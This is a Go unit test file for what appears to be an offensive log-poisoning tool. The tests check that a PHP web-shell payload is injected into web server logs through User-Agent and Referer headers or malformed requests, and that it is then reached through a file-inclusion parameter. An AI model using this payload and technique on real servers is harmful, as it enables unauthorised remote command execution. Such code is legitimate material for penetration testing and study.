package poison

import (
	"context"
	"errors"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/logpoison-tool/internal/config"
	"github.com/logpoison-tool/internal/logger"
	"github.com/logpoison-tool/internal/transport"
	"github.com/logpoison-tool/pkg/models"
)

const (
	target  = "http://10.10.10.10/index.php"
	payload = `<?php system($_GET["cmd"]); ?>`
)

type request struct {
	url     string
	headers map[string]string
}

type fakeTransport struct {
	status    int
	err       error
	requested []request
}

func (f *fakeTransport) Get(ctx context.Context, rawURL string, headers map[string]string) (*transport.Response, error) {
	f.requested = append(f.requested, request{url: rawURL, headers: headers})
	if f.err != nil {
		return nil, f.err
	}
	return &transport.Response{StatusCode: f.status}, nil
}

func TestNewResolvesEveryCatalogMethod(t *testing.T) {
	cfg := config.Default()

	for _, class := range cfg.Catalog {
		s, err := New(class.Method, &fakeTransport{}, cfg, logger.Discard())
		require.NoError(t, err, class.Name)
		assert.Equal(t, class.Method, s.Method())
	}

	for _, method := range models.KnownMethods {
		_, err := New(method, &fakeTransport{}, cfg, logger.Discard())
		assert.NoError(t, err, method)
	}
}

func TestNewUnknownMethod(t *testing.T) {
	_, err := New("smtp_helo", &fakeTransport{}, config.Default(), logger.Discard())

	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrUnknownMethod))
	assert.Contains(t, err.Error(), "smtp_helo")
}

func TestFallbackMethods(t *testing.T) {
	cfg := config.Default()

	for _, method := range []models.Method{models.MethodSSHUsername, models.MethodFTPUsername, models.MethodMailField} {
		assert.True(t, IsFallback(method), method)

		s, err := New(method, &fakeTransport{}, cfg, logger.Discard())
		require.NoError(t, err)

		field, ok := s.(*FieldInjection)
		require.True(t, ok)
		assert.Equal(t, "User-Agent", field.Header())
	}

	assert.False(t, IsFallback(models.MethodUserAgent))
	assert.False(t, IsFallback(models.MethodMalformedRequest))
}

func TestUserAgentInjection(t *testing.T) {
	fake := &fakeTransport{status: 200}
	s, err := New(models.MethodUserAgent, fake, config.Default(), logger.Discard())
	require.NoError(t, err)

	ok := s.Poison(context.Background(), target, "language", "/var/log/nginx/access.log", payload)

	assert.True(t, ok)
	require.Len(t, fake.requested, 1)
	assert.Equal(t, target+"?language=/var/log/nginx/access.log", fake.requested[0].url)
	assert.Equal(t, map[string]string{"User-Agent": payload}, fake.requested[0].headers)
}

func TestRefererInjectionKeepsBrowserAgent(t *testing.T) {
	fake := &fakeTransport{status: 200}
	s, err := New(models.MethodReferer, fake, config.Default(), logger.Discard())
	require.NoError(t, err)

	assert.True(t, s.Poison(context.Background(), target, "language", "/var/log/apache2/access.log", payload))
	assert.Equal(t, map[string]string{
		"Referer":    payload,
		"User-Agent": config.DefaultUserAgent,
	}, fake.requested[0].headers)
}

func TestFieldInjectionRequiresSuccessStatus(t *testing.T) {
	s, err := New(models.MethodUserAgent, &fakeTransport{status: 500}, config.Default(), logger.Discard())
	require.NoError(t, err)
	assert.False(t, s.Poison(context.Background(), target, "language", "/var/log/nginx/access.log", payload))

	s, err = New(models.MethodUserAgent, &fakeTransport{err: fmt.Errorf("%w: timeout", transport.ErrTransport)}, config.Default(), logger.Discard())
	require.NoError(t, err)
	assert.False(t, s.Poison(context.Background(), target, "language", "/var/log/nginx/access.log", payload))
}

func TestMalformedRequest(t *testing.T) {
	fake := &fakeTransport{status: 400}
	s, err := New(models.MethodMalformedRequest, fake, config.Default(), logger.Discard())
	require.NoError(t, err)

	assert.True(t, s.Poison(context.Background(), target, "language", "/var/log/apache2/error.log", payload))
	require.Len(t, fake.requested, 1)
	assert.Equal(t,
		target+"?language=%3C%3Fphp%20system%28%24_GET%5B%22cmd%22%5D%29%3B%20%3F%3E",
		fake.requested[0].url)
	assert.Empty(t, fake.requested[0].headers)

	failing := &fakeTransport{err: fmt.Errorf("%w: refused", transport.ErrTransport)}
	s, err = New(models.MethodMalformedRequest, failing, config.Default(), logger.Discard())
	require.NoError(t, err)
	assert.False(t, s.Poison(context.Background(), target, "language", "/var/log/apache2/error.log", payload))
}
